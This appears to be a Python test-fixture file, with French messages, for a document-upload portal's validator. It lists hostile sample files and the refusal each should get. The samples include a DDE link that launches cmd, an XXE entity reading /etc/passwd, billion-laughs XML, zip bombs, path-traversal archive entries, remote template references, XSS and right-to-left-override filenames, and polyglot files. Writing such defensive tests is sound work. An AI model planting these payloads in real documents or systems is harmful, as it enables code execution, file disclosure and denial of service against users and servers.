"""What could harm, by class; each with how its refusal begins, after the name, and the cure that it must offer."""

import struct
import zipfile

from . import echantillons as ech

PDF_A_LA_PLACE = "enregistrez-le au format PDF, puis déposez ce PDF"
MACROS = "contient des macros"
LIENS = "va chercher une partie de son contenu sur un autre ordinateur"
PIEGE = "mélange plusieurs types de contenu ou porte des noms internes anormaux"
BOMBE = "occupe une place démesurée une fois décompressé"
TYPE = "est d’un type que le portail ne reçoit pas"
INCONNU = "n’a pas le contenu d’un fichier PDF, JPG, PNG, DOCX, XLSX, ODT ou ODS"
RENOMMER = "donnez-lui l’extension"
PROGRAMME = "contient un lien qui lance un programme (DDE)"
OUVRIR = "ouvrez-le, retirez le mot de passe"
XML = '<?xml version="1.0" encoding="UTF-8"?>'


def zip_menteur():
    """The central directory says ten bytes; there are thirty million."""
    contenu = bytearray(ech.docx(plus=[("word/media/a.bin", bytes(30_000_000))]))
    place = contenu.rfind(b"PK\x01\x02")
    contenu[place + 24 : place + 28] = struct.pack("<I", 10)
    return bytes(contenu)


def zip_chiffre():
    contenu = bytearray(ech.docx())
    place = contenu.find(b"PK\x01\x02")
    contenu[place + 8] |= 1
    return bytes(contenu)


def entree_en_double():
    import io
    import warnings

    sortie = io.BytesIO(ech.docx())
    with warnings.catch_warnings(), zipfile.ZipFile(sortie, "a") as archive:
        warnings.simplefilter("ignore")
        archive.writestr("word/document.xml", "<autre/>")
    return sortie.getvalue()


def pdf_en_boucle(document):
    """A tree of pages that holds itself."""
    document.Root.Pages.Kids.append(document.Root.Pages)


def lien_dde(texte):
    return ech.docx(
        document=f'{XML}<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p>'
        f"{texte}</w:p></w:body></w:document>"
    )


DDE_XLSX = (
    f'{XML}<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    '<ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
)
CHARGE = f"{XML}<!DOCTYPE a [" + "".join(f'<!ENTITY e{i + 1} "&e{i};&e{i};">' for i in range(9)) + "]><a>&e9;</a>"
BASIC = ("Basic/Standard/Module1.xml", "<a/>")

HOSTILES = [
    # --- wrong or double extension
    ("facture.pdf.exe", ech.pdf(), TYPE, "déposez un fichier PDF"),
    ("facture.pdf.js", b"alert(1)", TYPE, "déposez un fichier PDF"),
    ("sans extension", ech.pdf(), TYPE, "déposez un fichier PDF"),
    ("page.svg", b"<svg onload='alert(1)'/>", TYPE, "déposez un fichier PDF"),
    ("archive.zip", ech.archive([("a", "b")]), TYPE, "déposez un fichier PDF"),
    ("programme.exe.pdf", b"MZ" + bytes(300), INCONNU, "enregistrez-le au format PDF"),
    ("page.pdf", b"<html><script>alert(1)</script>", INCONNU, "enregistrez-le au format PDF"),
    ("script.png", b"#!/bin/sh\n", INCONNU, "enregistrez-le au format PDF"),
    ("animation.jpg", ech.image("GIF"), INCONNU, "enregistrez-le au format PDF"),
    ("texte.docx", ech.pdf(), "porte l’extension .docx mais contient un document PDF", RENOMMER),
    ("budget.docx", ech.xlsx(), "porte l’extension .docx mais contient un classeur Excel", RENOMMER),
    ("scan.pdf", ech.image(), "porte l’extension .pdf mais contient une image JPEG", RENOMMER),
    ("ancien.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "est dans un ancien format", "en .docx"),
    ("photo.jpg", b"\x00\x00\x00\x18ftypheic" + bytes(100), "est une photo au format HEIC", "Le plus compatible"),
    ("archive.docx", ech.archive([("a.txt", "a")]), INCONNU, "enregistrez-le au format PDF"),
    ("modèle.docx", ech.docx(principal=ech.PRINCIPAL_DOCX.replace("document.main", "template.main")), INCONNU, "enregistrez-le au format PDF"),
    # --- empty, truncated, damaged
    ("vide.pdf", b"", "est vide", "vérifiez qu’il s’ouvre sur votre ordinateur"),
    ("blanc.pdf", b"   \n", INCONNU, "enregistrez-le au format PDF"),
    ("coupé.pdf", ech.pdf(pages=3)[:-300], "est incomplet", "Copiez-le ou numérisez-le à nouveau"),
    ("coupé.jpg", ech.image(taille=(400, 400))[:-200], "ne s’ouvre pas", PDF_A_LA_PLACE),
    ("coupé.png", ech.image("PNG", taille=(400, 400))[:-60], "ne s’ouvre pas", PDF_A_LA_PLACE),
    ("coupé.xlsx", ech.xlsx()[:-40], "ne s’ouvre pas", PDF_A_LA_PLACE),
    ("rebut.pdf", b"%PDF-1.7\n" + bytes(range(256)), "ne s’ouvre pas", PDF_A_LA_PLACE),
    ("sans page.pdf", ech.pdf(pages=0), "ne s’ouvre pas", PDF_A_LA_PLACE),
    ("en boucle.pdf", ech.pdf(avant=pdf_en_boucle), "ne s’ouvre pas", PDF_A_LA_PLACE),
    # --- encrypted, with a password
    ("secret.pdf", ech.pdf_chiffre(), "est protégé par un mot de passe", OUVRIR),
    (
        "secret.xlsx",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500) + "EncryptedPackage".encode("utf-16-le"),
        "est protégé par un mot de passe",
        OUVRIR,
    ),
    ("secret.odt", ech.odf(manifeste="<manifest:encryption-data/>"), "est protégé par un mot de passe", OUVRIR),
    ("secret.docx", zip_chiffre(), "est protégé par un mot de passe", OUVRIR),
    # --- zip bombs
    ("ratio.docx", ech.docx(plus=[("word/media/a.bin", bytes(30_000_000))]), BOMBE, PDF_A_LA_PLACE),
    ("énorme.xlsx", ech.docx(plus=[(f"x/{r}", bytes(60_000_000)) for r in range(2)]), BOMBE, PDF_A_LA_PLACE),
    ("foule.odt", ech.odf(plus=[(f"x/{r}", "") for r in range(2000)]), BOMBE, PDF_A_LA_PLACE),
    ("menteur.docx", zip_menteur(), "ne s’ouvre pas", PDF_A_LA_PLACE),
    # --- macros and programs
    ("macro.docm", ech.docx(principal=ech.PRINCIPAL_DOCM), TYPE, "déposez un fichier PDF"),
    ("macro.docx", ech.docx(principal=ech.PRINCIPAL_DOCM), MACROS, "enregistrez-le sans macros"),
    ("vba.docx", ech.docx(plus=[("word/vbaProject.bin", b"x")]), MACROS, "enregistrez-le sans macros"),
    ("xlm.xlsx", ech.docx(plus=[("xl/macrosheets/sheet1.xml", "<a/>")]), MACROS, "enregistrez-le sans macros"),
    ("activex.docx", ech.docx(plus=[("word/activeX/activeX1.bin", b"x")]), MACROS, "enregistrez-le sans macros"),
    ("basic.odt", ech.odf(plus=[BASIC]), MACROS, "enregistrez-le sans macros"),
    ("python.ods", ech.odf("spreadsheet", plus=[("Scripts/python/a.py", "x")]), MACROS, "enregistrez-le sans macros"),
    ("dde.docx", lien_dde("<w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO cmd</w:instrText></w:r>"), PROGRAMME, PDF_A_LA_PLACE),
    ("dde simple.docx", lien_dde('<w:fldSimple w:instr=" DDEAUTO c:\\\\cmd "/>'), PROGRAMME, PDF_A_LA_PLACE),
    ("dde.xlsx", ech.archive_ajoutee(ech.xlsx(), ("xl/externalLinks/externalLink1.xml", DDE_XLSX)), PROGRAMME, PDF_A_LA_PLACE),
    ("dde.odt", ech.odf(contenu='<text:dde-connection-decl/>'), PROGRAMME, PDF_A_LA_PLACE),
    # --- external references
    ("modèle distant.docx", ech.docx(relations=ech.relation("attachedTemplate", "https://a.example/m.dotm")), LIENS, PDF_A_LA_PLACE),
    ("unc.docx", ech.docx(relations=ech.relation("attachedTemplate", "file:///\\\\srv\\m.dotx")), LIENS, PDF_A_LA_PLACE),
    ("codé.docx", ech.docx(relations=ech.relation("attachedTemplate", "%5C%5Csrv%5Cm.dotx")), LIENS, PDF_A_LA_PLACE),
    ("image.docx", ech.docx(relations=ech.relation("image", "http://a.example/p.png")), LIENS, PDF_A_LA_PLACE),
    ("objet.docx", ech.docx(relations=ech.relation("oleObject", "http://a.example/o.rtf")), LIENS, PDF_A_LA_PLACE),
    ("image.odt", ech.odf(contenu='<draw:image xlink:href="http://a.example/p.png"/>'), LIENS, PDF_A_LA_PLACE),
    # --- DOCTYPE
    ("entité.docx", ech.docx(document=f'{XML}<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'), "contient une déclaration", PDF_A_LA_PLACE),
    ("rires.docx", ech.docx(document=CHARGE), "contient une déclaration", PDF_A_LA_PLACE),
    ("utf16.docx", ech.docx(document='<?xml version="1.0" encoding="utf-16"?><!DOCTYPE a><a/>'.encode("utf-16")), "contient une déclaration", PDF_A_LA_PLACE),
    ("tableur.xlsx", ech.archive_ajoutee(ech.xlsx(), ("xl/autre.xml", f"{XML}<!DOCTYPE a><a/>")), "contient une déclaration", PDF_A_LA_PLACE),
    # --- traversal inside, names inside
    ("remonte.docx", ech.docx(plus=[("../../x", "a")]), PIEGE, PDF_A_LA_PLACE),
    ("absolu.odt", ech.odf(plus=[("/etc/x", "a")]), PIEGE, PDF_A_LA_PLACE),
    ("barre.docx", ech.docx(plus=[("word\\x", "a")]), PIEGE, PDF_A_LA_PLACE),
    ("double.docx", entree_en_double(), PIEGE, PDF_A_LA_PLACE),
    # --- odd names, on a file that would be refused anyway: the sentence shows them clean
    ("..\\..\\windows\\vide.pdf", b"", "est vide", "vérifiez"),
    ("<img src=x onerror=alert(1)>\u202efdp.exe.pdf", b"", "est vide", "vérifiez"),
    ("n" * 300 + ".pdf", b"", "est vide", "vérifiez"),
    # --- huge images
    ("immense.png", ech.png_immense(), "compte trop de points", "réduisez les dimensions de l’image"),
    # --- several files in one
    ("pdf et zip.pdf", ech.pdf() + ech.archive([("a", "b")]), PIEGE, PDF_A_LA_PLACE),
    ("jpeg et zip.jpg", ech.image() + ech.archive([("a", "b")]), PIEGE, PDF_A_LA_PLACE),
    ("png et zip.png", ech.image("PNG") + ech.archive([("a", "b")]), PIEGE, PDF_A_LA_PLACE),
    ("jpeg et pdf.jpg", ech.image(comment=b"%PDF-1.4"), PIEGE, PDF_A_LA_PLACE),
]  # fmt: skip
